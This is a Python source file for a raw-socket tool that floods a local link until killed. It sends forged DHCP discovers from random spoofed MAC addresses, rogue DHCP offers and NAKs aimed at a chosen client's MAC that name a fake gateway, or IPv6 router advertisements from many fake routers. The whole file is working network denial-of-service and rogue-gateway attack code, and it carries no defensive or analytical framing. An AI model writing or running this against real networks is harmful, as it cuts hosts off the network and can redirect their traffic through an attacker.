"""Floods a link with messages of DHCP and router advertisements, each from another host, until it is killed.

python3 flood.py INTERFACE KIND: `discover` as so many clients, `offer` as servers that answer what nothing has asked,
`advertise` as routers."""

import random
import socket
import struct
import sys

interface, kind = sys.argv[1:]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((interface, 0))
numbers = random.Random(7)


def total(data):
    data += b"\0" * (len(data) % 2)
    sum_ = sum(struct.unpack(f">{len(data) // 2}H", data))
    while sum_ >> 16:
        sum_ = (sum_ & 0xFFFF) + (sum_ >> 16)
    return ~sum_ & 0xFFFF


def mac():
    return b"\x02\xbb" + numbers.randbytes(4)


def ip4(src, dst, ports, message):
    udp = struct.pack(">HHHH", *ports, 8 + len(message), 0) + message
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
    return head[:10] + struct.pack(">H", total(head)) + head[12:] + udp


def dhcp(op, own, options):
    xid, to = numbers.randbytes(4), bytes([203, 0, 113, numbers.randrange(1, 250)])
    fixed = struct.pack(">BBBB4sHH4s4s4s4s16s192s", op, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4, to if op == 2 else b"\0" * 4,
                        b"\0" * 4, b"\0" * 4, own.ljust(16, b"\0"), b"")
    return fixed + b"\x63\x82\x53\x63" + options + b"\xff"


def discover():
    own = mac()
    packet = ip4(b"\0" * 4, b"\xff" * 4, (68, 67), dhcp(1, own, b"\x35\x01\x01"))
    return b"\xff" * 6 + own + b"\x08\x00" + packet


def offer():
    own, server = mac(), bytes([203, 0, 113, 254])
    options = b"\x35\x01" + numbers.choice([b"\x02", b"\x05", b"\x06"]) + b"\x36\x04" + server
    options += b"\x33\x04\0\0\x0e\x10\x01\x04\xff\xff\xff\0\x03\x04" + server
    return b"\xff" * 6 + own + b"\x08\x00" + ip4(server, b"\xff" * 4, (67, 68), dhcp(2, TARGET, options))


def advertise():
    own = mac()
    src = b"\xfe\x80" + b"\0" * 6 + own[:3] + b"\xff\xfe" + own[3:]
    dst = b"\xff\x02" + b"\0" * 13 + b"\x01"
    prefix = b"\x20\x01\x0d\xb8\xbb" + numbers.randbytes(3) + b"\0" * 8
    body = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0xC0, 1800, 0, 0) + b"\x01\x01" + own
    body += struct.pack(">BBBBIII16s", 3, 4, 64, 0xC0, 3600, 1800, 0, prefix)
    pseudo = src + dst + struct.pack(">II", len(body), 58)
    body = body[:2] + struct.pack(">H", total(pseudo + body)) + body[4:]
    head = struct.pack(">IHBB", 0x60000000, len(body), 58, 255)
    return b"\x33\x33\0\0\0\x01" + own + b"\x86\xdd" + head + src + dst + body


TARGET = mac()
if kind == "offer":
    # The link address of the client is known to all of its link.
    TARGET = bytes.fromhex(open("target").read().strip().replace(":", ""))
print("ready", flush=True)
make = {"discover": discover, "offer": offer, "advertise": advertise}[kind]
while True:
    try:
        link.send(make())
    except OSError:
        pass
